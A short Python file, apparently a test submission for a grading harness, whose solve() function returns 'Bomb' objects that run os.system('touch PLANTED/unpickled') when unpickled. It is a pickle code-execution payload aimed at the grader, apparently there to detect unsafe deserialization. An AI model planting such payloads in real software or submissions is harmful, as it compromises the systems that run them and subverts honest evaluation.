"""Returns an object that would run a program in a grader that unpickles."""
import os
class Bomb:
    def __reduce__(self):
        return (os.system, ("touch PLANTED/unpickled",))
def solve(lines):
    return [Bomb(), ("a", Bomb())]
